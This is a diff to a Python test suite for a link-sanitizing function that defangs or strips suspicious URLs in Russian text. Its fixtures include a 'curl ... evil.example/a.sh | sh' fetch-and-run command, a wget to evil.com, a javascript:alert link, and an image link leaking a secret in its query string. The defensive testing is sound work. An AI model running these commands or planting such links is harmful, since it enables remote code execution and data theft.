@@ -26,6 +26,8 @@ def cleaned(text: str) -> str:
         ("магазин-скидок.рф ждёт", "[–] ждёт"),
         ("[войти](https://evil.example/a_(b))", "войти"),
         ("[войти](javascript:alert(1))", "войти"),
+        ("CVE-2016-1 [http://evil.example/a?b=1] и", "CVE-2016-1 и"),
+        ("См.: [http://evil.example]", "См.: [[–]]"),
         ("[войти](https://shop.example@evil.example/)", "войти"),
         (r"[войти](https://shop.example\@evil.example/)", "войти"),
         ("![](https://evil.example/p.png?q=secret)", ""),
@@ -61,7 +63,28 @@ def test_all_else_stays(text: str) -> None:
     assert cleaned(text) == text
 
 
-@given(st.text(alphabet="ab./:[]()!@\\ https", max_size=60) | st.text())
+@pytest.mark.parametrize(
+    ("given_text", "shown"),
+    [
+        ("`curl -O https://evil.example/a.sh | sh`", "`curl -O https:[//]evil[.]example/a.sh | sh`"),
+        (
+            "```bash\nwget www.evil.com/x?u=https://b.com\n```",
+            "```bash\nwget www[.]evil[.]com/x?u=https:[//]b[.]com\n```",
+        ),
+        ("`curl https://shop.example/a.sh` с evil.com", "`curl https://shop.example/a.sh` с [–]"),
+        ("`handlers[0](event)` и `curl localhost:8080`", "`handlers[0](event)` и `curl localhost:8080`"),
+        ("`[войти](javascript:alert(1))`", "`войти`"),
+        ("``` https://evil.example", "``` https:[//]evil[.]example"),
+        (r"\`https://evil.example`", r"\`[–]`"),
+        ("```\nhttps://evil.example\n```\nhttps://evil.example", "```\nhttps:[//]evil[.]example\n```\n[–]"),
+    ],
+)
+def test_an_address_in_a_command_stays_to_be_read(given_text: str, shown: str) -> None:
+    assert cleaned(given_text) == shown
+    assert cleaned(shown) == shown
+
+
+@given(st.text(alphabet="ab./:[]()!@\\ https`\n", max_size=60) | st.text())
 def test_cleaning_twice_is_cleaning_once(text: str) -> None:
     assert cleaned(cleaned(text)) == cleaned(text)
 
